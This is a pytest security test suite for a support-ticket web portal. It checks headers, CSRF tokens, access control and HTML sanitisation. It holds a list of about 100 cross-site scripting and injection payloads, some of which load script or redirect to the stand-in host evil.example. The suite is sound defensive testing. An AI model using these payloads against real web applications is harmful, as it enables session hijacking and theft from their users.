"""The whole table of pages, tried as every kind of visitor by every method: looks change nothing, forms must be ours,
headers stand on every answer, nothing of a sender's runs.
"""

import hashlib
import re
from html.parser import HTMLParser

import pytest

from gatepost.core import DAY
from gatepost.core.staff import Member, Permission
from gatepost.links import For, vendor_link
from gatepost.portal.customer import ticket_face
from gatepost.portal.page import Form, Who
from gatepost.portal.routes import pages
from gatepost.store import drafts, parties, sessions
from gatepost.store.drafts import Draft
from gatepost.store.sessions import Kind, Session

from .conftest import EDDIE, JANE, Browser, answered, mail

POLICY = (
    "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
)
HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
    "strict-transport-security": "max-age=31536000; includeSubDomains",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
SECRET = "s" * 43


def hashed(market):
    """A hash over every row of every table."""
    found = hashlib.sha256()
    for row in market.rows("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"):
        found.update(row["name"].encode())
        for line in sorted(repr(tuple(line)) for line in market.rows(f"SELECT * FROM [{row['name']}]")):
            found.update(line.encode("utf-8", "surrogatepass"))
    return found.hexdigest()


@pytest.fixture
def full(market, site, signed_in):
    """A market in which every kind of link leads somewhere, and one browser of each kind of visitor."""
    market.house.members = {
        "vera": Member(
            slug="vera", name="Vera", address="vera@staff.example", roles=("admin",), permissions=frozenset(Permission)
        )
    }
    market.arrive(mail(f"Jane <{JANE}>", "Shipping Labels jam", "Every label jams.", "Cc: Bob <bob@friend.example>"))
    (sent,) = market.sent("ticket")
    market.arrive(answered(sent, "Ann <tickets@acme.example>", "Please update."), sent.reply_to)
    return market


@pytest.fixture
def values(full):
    """What stands in the paths, by the purpose of the link or by name."""
    links, until = full.house.links, full.now + 20 * DAY
    vendor = full.db.read_now(lambda tx: parties.vendor_named(tx, "acme"))
    question = full.rows("SELECT id, participant FROM confirmation")[0]
    draft = Draft(
        address="g@x.example", name="", recipient="support@orchard.example", subject="S", once="0" * 32, expires=until,
        raw=b"From: g@x.example\r\nTo: support@orchard.example\r\nSubject: S\r\n\r\nWords\r\n",
    )  # fmt: skip
    full.db.write_now(lambda tx: drafts.put(tx, draft, SECRET, per_hour=9, now=full.now))
    about = {
        For.RATE: (1001, 1), For.UNSUBSCRIBE: (1001, 1), For.VIEW: (1001, 1), For.ATTACHMENT: (1, 1001, 1),
        For.CHOOSE: (1001, 1, 1),
    }  # fmt: skip
    made = {purpose: links.sign(purpose, what, until) for purpose, what in about.items()}
    made[For.VENDOR] = vendor_link(links, vendor, full.now)
    made["/confirm/"] = full.house.confirm_token(question["id"], question["participant"])
    made["/ask/"] = SECRET
    return made


def path_of(page, values):
    """A path of the page that leads somewhere, as far as this test knows what stands in it."""
    token = values.get(page.link) or next(
        (v for k, v in values.items() if isinstance(k, str) and page.path.startswith(k)), "x" * 43
    )
    given = {"token": token, "number": "1001", "score": "5", "file": "1", "name": "x.css"}
    return re.sub(r"{(\w+)[^}]*}", lambda found: given.get(found[1], "1"), page.path)


@pytest.fixture
def visitors(full, site, signed_in):
    """A browser for each kind of visitor."""
    staff, acting = Browser(site.app), Browser(site.app)
    for browser, kind, customer in ((staff, Kind.STAFF, 0), (acting, Kind.IMPERSONATION, 1)):
        session = Session(
            id=0, kind=kind, customer=customer, staff="vera", brand="orchard", started=full.now, expires=full.now + DAY
        )
        secret = f"{kind.value}-secret"
        full.db.write_now(lambda tx, session=session, secret=secret: sessions.open_(tx, session, secret))
        browser.cookies.set(f"__Host-gatepost-{kind.value}", secret, domain="my.orchard.example")
    return {
        "nobody": Browser(site.app),
        "jane": signed_in(),
        "eddie": signed_in(EDDIE),
        "staff": staff,
        "impersonation": acting,
    }


@pytest.mark.catalogue("I01")
def test_a_look_at_any_page_changes_nothing_and_signs_nobody_in(full, site, values, visitors):
    before, seen = hashed(full), set()
    for page in pages(site.counter):
        path = path_of(page, values)
        for who, browser in visitors.items():
            cookies = dict(browser.cookies)
            for method in ("HEAD", "OPTIONS", *(("GET",) if page.method == "GET" else ())):
                answer = browser.request(method, path, headers={"sec-purpose": "prefetch"})
                seen.add((page.path, answer.status_code))
                assert answer.status_code < 500, (method, path, who)
            signed = {name for name in dict(browser.cookies) if name not in cookies}
            assert signed <= {"__Host-gatepost-visit"}, (path, who)
            browser.cookies.delete("__Host-gatepost-visit") if signed else None
    assert hashed(full) == before
    assert len({path for path, status in seen if status == 200}) >= 20


@pytest.mark.catalogue("G05", "I21", "I22", "G10")
def test_every_answer_has_its_headers(full, site, values, visitors):
    for page in pages(site.counter):
        for method in ("GET", "POST", "PUT", "TRACE"):
            for who in ("nobody", "jane", "staff"):
                answer = visitors[who].request(method, path_of(page, values))
                where = (method, page.path, who, answer.status_code)
                for name, value in HEADERS.items():
                    assert answer.headers[name] == value, where
                policy = answer.headers["content-security-policy"]
                assert policy == POLICY or "sandbox" in policy, where
                assert "unsafe" not in policy and "*" not in policy, where
                kept = page.path.startswith(("/style", "/brand", "/logo", "/favicon", "/staff/style"))
                assert answer.headers["cache-control"] == "no-store" or kept, where
                assert len(answer.headers.get_list("content-security-policy")) == 1, where
                if answer.headers.get("content-type", "").startswith("text/"):
                    assert "charset=utf-8" in answer.headers["content-type"], where


def forms(site, values):
    """Every form whose link, where it has one, this test can make."""
    known = [(page, path_of(page, values)) for page in pages(site.counter)]
    return [
        (page, path)
        for page, path in known
        if page.method == "POST" and page.form is not Form.OPEN and "x" * 43 not in path
    ]


@pytest.mark.catalogue("I11")
def test_no_form_is_taken_that_our_page_has_not_given(full, site, values, visitors):
    """Every POST × {no token, a wrong one, another session's, ours but sent from another site}."""
    jane = re.search(r'name="form" value="(\w+)"', visitors["jane"].get("/tickets").text)[1]
    eddie = re.search(r'name="form" value="(\w+)"', visitors["eddie"].get("/tickets").text)[1]
    before, tried = hashed(full), 0
    for page, path in forms(site, values):
        who = visitors["staff"] if page.who is Who.STAFF else visitors["jane"]
        cases = ({}, {"form": ""}, {"form": "0" * 40}, {"form": eddie}, {"form": ["a", "b"]})
        for data in cases:
            assert who.post(path, data=data).status_code in (401, 403), (path, data)
        for headers in (
            {"sec-fetch-site": "cross-site"},
            {"sec-fetch-site": "same-site"},
            {"sec-fetch-site": "", "origin": "https://evil.example"},
            {"sec-fetch-site": "", "origin": "http://my.orchard.example"},
        ):
            assert who.post(path, data={"form": jane}, headers=headers).status_code in (401, 403), (path, headers)
        tried += 1
    assert tried >= 12 and hashed(full) == before


@pytest.mark.catalogue("I12")
def test_every_page_is_shown_to_those_it_is_for_and_to_nobody_else(full, site, values, visitors):
    for page in pages(site.counter):
        path = path_of(page, values)
        for who, browser in visitors.items():
            answer = browser.request(page.method, path)
            where = (page.method, page.path, who, answer.status_code)
            if page.who is Who.CUSTOMER and who in ("nobody", "staff"):
                assert answer.status_code in ((303,) if page.method == "GET" else (401,)), where
                assert page.method == "POST" or answer.headers["location"].startswith("/sign-in?next="), where
            if page.who is Who.STAFF and who in ("nobody", "jane", "eddie"):
                assert answer.status_code in ((303,) if page.method == "GET" else (401,)), where
                assert page.method == "POST" or answer.headers["location"].startswith("/staff/sign-in"), where
            if who == "impersonation" and not page.impersonated and page.who is Who.CUSTOMER:
                assert answer.status_code in (303, 401, 403), where
            if (
                page.who is Who.CUSTOMER
                and who == "eddie"
                and "{number}" in page.path
                and page.path.startswith("/tickets/")
            ):
                assert answer.status_code == (404 if page.method == "GET" else 403), where


def test_staff_without_a_permission_see_nothing(full, site, values, visitors):
    full.house.members = {
        "vera": Member(slug="vera", name="Vera", address="vera@staff.example", roles=(), permissions=frozenset())
    }
    for page in pages(site.counter):
        if page.who is Who.STAFF and page.permission:
            assert visitors["staff"].request(page.method, path_of(page, values)).status_code in (303, 401, 403), (
                page.path
            )


class Page(HTMLParser):
    """What of a page could run, load or lead away; and whether it is well made for readers of every kind."""

    VOID = frozenset(
        ["area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"]
    )

    def __init__(self, text):
        super().__init__()
        self.tags, self.wrong, self.labels, self.fields, self.open = [], [], set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        self.tags.append(tag)
        if tag in ("script", "iframe", "object", "embed", "base", "svg", "math", "style", "video", "audio", "template"):
            self.wrong.append(tag)
        for name, value in given.items():
            said = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping", "srcset"):
                self.wrong.append((tag, name))
            if name in ("href", "src", "action") and not re.match(r"(https?://|/(?!/)|#|mailto:|$)", said):
                self.wrong.append((tag, name, value))
            if name == "src" and not said.startswith("/"):
                self.wrong.append((tag, name, value))
        if given.get("target") == "_blank" or (
            tag == "a" and given.get("href", "").startswith("http") and "noopener" not in given.get("rel", "")
        ):
            self.wrong.append(("a", "rel", given))
        if tag == "label" and given.get("for"):
            self.labels.add(given["for"])
        if tag in ("input", "select", "textarea") and given.get("type") not in ("hidden", "submit"):
            self.fields.append((given.get("id"), given.get("aria-label"), "label" in self.open))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        while self.open and self.open.pop() != tag:
            pass


def readable(answer):
    page = Page(answer.text)
    assert page.wrong == [], answer.request.url
    assert page.tags.count("h1") == 1 and page.tags.count("title") == 1 and page.tags.count("main") == 1, (
        answer.request.url
    )
    assert re.search(r'<html lang="[a-z]{2}"', answer.text)
    for ident, label, inside in page.fields:
        assert ident in page.labels or label or inside, (answer.request.url, ident)
    assert len(answer.content) < 40_000


def test_every_page_can_be_read_by_everybody_and_runs_nothing(full, site, values, visitors):
    seen = 0
    for page in pages(site.counter):
        for browser in visitors.values():
            answer = browser.request(page.method, path_of(page, values))
            if answer.headers.get("content-type", "").startswith("text/html") and answer.text:
                readable(answer)
                seen += 1
    assert seen > 60


PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>', "'-alert(1)-'", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<object data=x>", "<embed src=x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=a>", "<style>@import url(//evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>", "<div style='background:url(//evil.example)'>", "<p style=width:expression(alert(1))>",
    "<math><mglyph><style><img src=x onerror=alert(1)>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=javascript:alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>", "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</select><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "{{7*7}}", "{% include 'x' %}", "${7*7}", "<%= 7*7 %>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<\x00script>alert(1)</script>", "<img src='x' onerror\x0b=alert(1)>",
    "<a id=location name=document>", "<form id=getElementById>", "https://a.example/\"onmouseover=alert(1)//", "http://a.example/<script>alert(1)</script>",
    "https://a.example/' onclick=alert(1)", "https://evil.example@good.example/", "https://good.example\\@evil.example/", "http://[::1]/\"><script>", "+ADw-script+AD4-alert(1)",
    "<x onclick=alert(1)>click</x>", "<button formaction=javascript:alert(1)>x", "<isindex type=image src=1 onerror=alert(1)>", "<a ping=//evil.example href=/>x",
    "<img srcset='x 1x' src=//evil.example>", "<input type=image src=x onerror=alert(1)>", "<frameset onload=alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example>", "<xss style=behavior:url(x.htc)>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml version=1.0?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<script>", "<script src=//evil.example></script>",
    "<SCRIPT/XSS SRC=//evil.example></SCRIPT>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<img \"\"\"><script>alert(1)</script>\">", "<a href=\"vbscript:x\">x</a>",
    "<set attributeName=onmouseover to=alert(1)>", "<animate onbegin=alert(1)>", "<use href=data:image/svg+xml,x>", "<foreignObject><script>alert(1)</script></foreignObject>",
    "<link rel=import href=//evil.example>", "<portal src=//evil.example>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>", "<svg><a xlink:href=javascript:alert(1)>x",
    "<svg><animate attributeName=href values=javascript:alert(1)>", "<img src=\"cid:x\" onerror=alert(1)>", "<br size=\"&{alert(1)}\">", "<div onpointerover=alert(1)>", "<area href=javascript:alert(1)>",
    "<menu onshow=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<q cite=javascript:alert(1)>", "<html manifest=//evil.example>",
    "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>", "<img/src/onerror=alert(1)>",
]  # fmt: skip


@pytest.mark.catalogue("G01", "G02", "G03")
def test_nothing_that_a_sender_writes_runs_or_loads_on_any_page(market, site, visitors, values):
    """The payloads in subject, name, words, HTML and file names, on every page that shows them, and as a search."""
    assert len(PAYLOADS) >= 100
    jane = visitors["jane"]
    every = "\n".join(PAYLOADS)
    hostile = mail(
        f'"{PAYLOADS[0]}" <{JANE}>', PAYLOADS[4], f"<html><body>{every}<img src='http://evil.example/p.gif'></body></html>",
        "MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8",
    )  # fmt: skip
    market.arrive(hostile, "support+shipping-labels@orchard.example")
    market.arrive(mail(f"Jane <{JANE}>", "Shipping Labels", every))
    number = market.tickets() + 1000
    for at in (number - 1, number):
        answer = jane.get(f"/tickets/{at}")
        assert answer.status_code == 200
        readable(answer)
        assert "evil.example/p.gif" not in answer.text
        for payload in PAYLOADS[:30]:
            jane.submit(
                f"/tickets/{at}",
                action=f"/tickets/{at}/reply",
                text=payload,
                files={"files": (payload, b"x", "text/html")},
            ) if at == number and len(payload) < 30 else None
    readable(jane.get(f"/tickets/{number}"))
    readable(jane.get("/tickets"))
    vendor = Browser(site.app)
    readable(vendor.get(f"/vendor/{values[For.VENDOR]}"))
    readable(vendor.get(f"/vendor/{values[For.VENDOR]}/tickets/{number}"))
    for payload in PAYLOADS:
        readable(jane.get("/tickets", params={"q": payload}))
        readable(jane.get("/tickets/new", params={"product": payload}))
        readable(vendor.get("/sign-in", params={"next": payload}))
    for payload in PAYLOADS[::8]:
        readable(vendor.submit("/sign-in", address=payload))
        readable(jane.submit("/tickets/new", subject="", text=payload, report=payload))
        wrong = vendor.get(f"/vendor/{values[For.VENDOR]}")
        readable(
            vendor.submit(
                wrong,
                action=f"/vendor/{values[For.VENDOR]}/away",
                first=payload,
                back=payload,
                substitute=payload,
                text=payload,
            )
        )


@pytest.mark.catalogue("I29")
def test_whatever_is_asked_for_tells_nothing_of_the_inside(full, site, values, visitors, monkeypatch, caplog):
    odd = ["'", "\0", "%", "../..", "x" * 3000, "1e9", "-1", "\u202e", "9" * 30, "<script>", "%ff", "\ud7ff"]
    for page in pages(site.counter):
        for word in odd:
            path = re.sub(r"{\w+[^}]*}", lambda _, word=word: word, page.path).replace("\0", "%00")
            if "{" in page.path:
                answer = visitors["jane"].request(page.method, path)
                assert answer.status_code < 500, path
                assert "Traceback" not in answer.text and ".py" not in answer.text
    monkeypatch.setattr(ticket_face, "conversation", lambda *_: 1 / 0)
    answer = visitors["jane"].get("/tickets/1001")
    ident = re.search(r"<strong>([0-9a-f]{8})</strong>", answer.text)[1]
    assert answer.status_code == 500 and "ZeroDivisionError" not in answer.text
    assert f"id={ident}" in caplog.text and "ZeroDivisionError" in caplog.text
